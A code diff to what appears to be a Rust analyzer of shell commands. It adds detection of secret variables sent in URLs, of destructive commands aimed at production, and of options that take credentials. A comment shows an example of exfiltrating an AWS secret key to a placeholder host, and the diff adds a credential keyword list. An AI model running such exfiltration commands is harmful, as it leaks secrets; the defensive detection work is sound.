@@ -5,7 +5,7 @@ use super::analysis::Analysis;
 use super::knowledge::Kind;
 use super::paths::base_name;
 use super::target::Look;
-use super::value::{Data, Field, Sink, Taint, Val};
+use super::value::{Data, Field, Seg, Sink, Taint, Val};
 use super::{Call, Effect, globs};
 use crate::limits;
 
@@ -29,16 +29,29 @@ impl<'a> Analysis<'a> {
         let secret = self.know.places().classes(["secret"]);
         let words = call.words;
         for (at, word) in words.iter().enumerate().skip(1) {
-            let Some(text) = word.val.lit() else { continue };
-            let after_option = at > 1 && words[at - 1].val.lit().is_some_and(|t| t.starts_with('-'));
-            if text.contains('/') && !text.starts_with('-') && !after_option {
-                let path = text.strip_prefix('@').unwrap_or(text);
+            let Some(text) = word.val.lit() else {
+                // `frobnicate https://example.com/?k=$AWS_SECRET_ACCESS_KEY`
+                if word.val.taint().has(Taint::SECRET_VARIABLE) && starts_with_address(word.val) {
+                    let target = self.host_target(word.val);
+                    let data = word.val.taint();
+                    self.effect(Effect { data, ..Effect::new(Kind::Fetch, target, index, word.span) });
+                }
+                continue;
+            };
+            let (option, path) = match text.split_once('=') {
+                Some((option, path)) if text.starts_with('-') => (option, path),
+                _ if text.starts_with('-') => continue,
+                _ => (words[at - 1].val.lit().filter(|t| at > 1 && t.starts_with('-')).unwrap_or(""), text),
+            };
+            if path.contains('/') && !takes_credentials(option) {
+                let path = path.strip_prefix('@').unwrap_or(path);
                 let target = self.path_target(Val::Lit(path), Look::Not);
                 if target.classes & secret != 0 {
                     self.effect(Effect::new(Kind::Read, target, index, word.span));
                 }
             }
         }
+        self.destroys_by_words(call, index);
         for (at, word) in words.iter().enumerate().skip(1) {
             let Some(text) = word.val.lit() else { continue };
             let rest = &words[at + 1..];
@@ -60,6 +73,30 @@ impl<'a> Analysis<'a> {
                 _ => {}
             }
         }
+    }
+
+    /// `frobnicate delete users --force`: what the words say, of a program that is found by its name. Without a question,
+    /// or where a word names production: what a tool deletes of its own is nobody's business.
+    fn destroys_by_words(&mut self, call: &Call<'a>, index: u32) {
+        if call.path.is_some() {
+            return;
+        }
+        let places = self.know.places();
+        let listed = |list: &str, text: &str| places.list(list).any(|item| item == text);
+        let words = || call.words.iter().skip(1).filter_map(|word| word.val.lit());
+        let verbs = words().filter(|word| !word.starts_with('-')).take(3);
+        let Some(verb) = verbs.into_iter().find(|word| listed("destroying-words", word)) else { return };
+        let named = |environment: &str| words().find(|word| places.environment_of_words(word) == environment);
+        let production = named("production");
+        let asks = || !words().any(|word| listed("unasking-options", word));
+        if production.is_none() && (asks() || named("development").is_some() || named("test").is_some()) {
+            return;
+        }
+        let text = match production {
+            Some(name) => self.bump.alloc_str(&format!("{verb}: {name}")),
+            None => verb,
+        };
+        self.plain_effect(Kind::Destroy, text, index, call.span, Taint::NONE, &["by-words"]);
     }
 
     /// A file that only the system itself reads, handed to a program in a way that its entry does not know: as a list of
@@ -148,4 +185,15 @@ impl<'a> Analysis<'a> {
         out.push(Data::unknown("", stdin.taint | Taint::OPAQUE));
         !names.is_empty()
     }
+}
+
+/// Whether a program takes what it proves itself with, or its settings, after this option: `--key`, `-i`.
+fn takes_credentials(option: &str) -> bool {
+    let means = ["key", "ident", "cert", "cred", "auth", "secret", "pass", "token", "conf", "kube", "env", "pem"];
+    matches!(option, "-i" | "-k" | "-c") || means.iter().any(|part| option.to_ascii_lowercase().contains(part))
+}
+
+/// Whether a value is an address of the network, whatever follows.
+fn starts_with_address(val: Val<'_>) -> bool {
+    matches!(val, Val::Text([Seg::Lit(start), ..]) if start.contains("://"))
 }
